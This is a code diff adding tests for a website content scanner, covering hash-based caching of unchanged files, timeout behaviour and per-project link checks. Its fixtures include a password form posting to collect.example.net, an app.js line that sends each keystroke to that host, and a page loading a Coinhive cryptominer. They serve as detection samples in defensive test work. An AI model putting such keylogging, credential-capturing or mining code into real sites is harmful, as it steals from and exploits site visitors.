@@ -6,7 +6,8 @@
  */
 import type { ContentCheckReport, ContentFinding } from '@sitehall/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { checkSiteContent, type SiteFile } from '../src/content-check/index.js';
+import { createHash } from 'node:crypto';
+import { checkSiteContent, type SiteFile, TraceCache } from '../src/content-check/index.js';
 import { createTestApp, SIMPLE_SITE, type TestApp, type UploadFile, uploadProject } from './helpers.js';
 
 let t: TestApp;
@@ -445,6 +446,93 @@ describe('the checker', () => {
     expect(performance.now() - started).toBeLessThan(15_000);
     expect(worstGap).toBeLessThan(1_000);
     expect(report.version).toBe(2);
+  });
+});
+
+describe('unchanged files are not scanned again', () => {
+  /** Files with their SHA-256, as an upload or a deploy knows them; `reads` lists what was read. */
+  function hashedSite(files: Record<string, string>, reads: string[]): SiteFile[] {
+    return Object.entries(files).map(([path, content]) => {
+      const bytes = Buffer.from(content);
+      return {
+        path,
+        size: bytes.length,
+        extension: path.slice(path.lastIndexOf('.') + 1),
+        sha256: createHash('sha256').update(bytes).digest('hex'),
+        read: async (n: number) => {
+          reads.push(path);
+          return bytes.subarray(0, n);
+        },
+      };
+    });
+  }
+  const comparable = ({ checked_at: _, ...r }: ContentCheckReport) => r;
+
+  it('reads only changed files, and reports what a full check reports', async () => {
+    const traces = new TraceCache();
+    const v1: Record<string, string> = {
+      'index.html': '<!doctype html><a href="about.html">关于</a><script src="app.js"></script>',
+      'about.html': '<!doctype html><form action="https://collect.example.net/"><input type="password"></form>',
+      'app.js': 'console.log(1);',
+      'style.css': 'body { color: red; }',
+    };
+    for (let i = 0; i < 20; i++) v1[`p/${i}.html`] = `<!doctype html><a href="../index.html">${i}</a>`;
+    const check = async (files: Record<string, string>) => {
+      const reads: string[] = [];
+      const report = await checkSiteContent(hashedSite(files, reads), 'index.html', { traces });
+      const full = await checkSiteContent(hashedSite(files, []), 'index.html', { traces: null });
+      expect(comparable(report)).toEqual(comparable(full));
+      return { report, reads: reads.sort() };
+    };
+
+    expect((await check(v1)).reads).toHaveLength(Object.keys(v1).length);
+    const again = await check(v1);
+    expect(again.reads).toEqual([]);
+    expect(again.report.findings.some((f) => f.file === 'about.html' && f.severity === 'high')).toBe(true);
+
+    // One file changed: only it is read.
+    const v2: Record<string, string> = { ...v1, 'style.css': 'body { color: blue; }' };
+    expect((await check(v2)).reads).toEqual(['style.css']);
+    // A page whose link target is gone is read again (and now reports the missing file).
+    const { 'about.html': _gone, ...v3 } = v2;
+    const third = await check(v3);
+    expect(third.reads).toEqual(['index.html']);
+    expect(third.report.findings.filter((f) => f.rule === 'ref.missing-file').map((f) => f.file)).toEqual([
+      'index.html',
+    ]);
+    // A page whose script now reads keystrokes and sends them elsewhere is read again with it.
+    const v4 = {
+      ...v3,
+      'app.js': "addEventListener('keydown', (e) => fetch('https://collect.example.net/k', { method: 'POST', body: e.key }));",
+    };
+    expect((await check(v4)).reads).toEqual(['app.js', 'index.html']);
+  });
+
+  it('a check that ran out of time leaves the next one whole', async () => {
+    const files: Record<string, string> = {
+      'index.html': '<!doctype html><script src="https://coinhive.com/lib/coinhive.min.js"></script>',
+    };
+    const big = Object.fromEntries(
+      Array.from({ length: 3000 }, (_, i) => [`p/${i}.js`, `var a${i} = ${JSON.stringify('x'.repeat(500))};`]),
+    );
+    const cut = await checkSiteContent(hashedSite({ ...files, ...big }, []), 'index.html', {
+      timeoutMs: 5,
+      traces: null,
+    });
+    expect(cut.findings.map((f) => f.rule)).toContain('site.check-incomplete');
+    for (let i = 0; i < 3; i++) {
+      const whole = await checkSiteContent(hashedSite(files, []), 'index.html');
+      expect(whole.findings.map((f) => f.rule)).not.toContain('site.check-incomplete');
+      expect(whole.level).toBe('high');
+    }
+  });
+
+  it('a page uploaded to another project without its linked file is checked against that project', async () => {
+    const page = { name: 'index.html', content: '<!doctype html><a href="more.html">更多</a>' };
+    await upload([page, { name: 'more.html', content: '<!doctype html><p>更多</p>' }], '完整项目');
+    const id = await upload([page], '缺页项目');
+    const missing = (await checkOf(id)).findings.filter((f) => f.rule === 'ref.missing-file');
+    expect(missing.map((f) => f.file)).toEqual(['index.html']);
   });
 });
 
